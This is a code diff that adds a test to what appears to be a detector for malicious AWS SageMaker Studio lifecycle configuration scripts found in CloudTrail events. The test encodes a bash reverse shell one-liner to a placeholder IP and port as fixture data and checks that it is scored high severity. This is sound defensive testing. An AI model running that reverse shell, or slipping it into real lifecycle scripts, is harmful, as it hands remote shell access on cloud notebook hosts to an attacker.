@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import base64
 import copy
 import uuid
 from typing import Any
@@ -106,3 +107,23 @@ def test_the_latest_script_version_decides() -> None:
     stop, update, start = _case("stop_attach_lifecycle_start")
     sequence = [f for f in _run([bad, good, stop, update, start]) if "restarted" in f.title]
     assert [f.severity for f in sequence] == ["medium"]  # the reverse shell was replaced before the restart
+
+
+def _studio_config(script: str) -> dict[str, Any]:
+    """CreateStudioLifecycleConfig (API reference): one base64 script in studioLifecycleConfigContent."""
+    [rec] = _case("lifecycle_config_with_reverse_shell")
+    rec["eventName"] = "CreateStudioLifecycleConfig"
+    rec["requestParameters"] = {"studioLifecycleConfigName": "jl-setup", "studioLifecycleConfigAppType": "JupyterLab",
+                                "studioLifecycleConfigContent": base64.b64encode(script.encode()).decode()}
+    rec["responseElements"] = {"studioLifecycleConfigArn":
+                               "arn:aws:sagemaker:us-east-1:111122223333:studio-lifecycle-config/jl-setup"}
+    return rec
+
+
+def test_studio_lifecycle_config_script_is_scored() -> None:
+    [finding] = _run([_studio_config("nohup bash -i >& /dev/tcp/198.51.100.7/4444 0>&1 &")])
+    assert finding.severity == "high" and finding.evidence["indicators"] == ["reverse_shell"]
+    assert [r.type for r in finding.resources] == ["AWS::SageMaker::StudioLifecycleConfig"]
+    assert finding.resources[0].id.endswith(":studio-lifecycle-config/jl-setup")
+    assert "JupyterLab" in finding.description
+    assert not _run([_studio_config("pip install --quiet jupyterlab-lsp")])
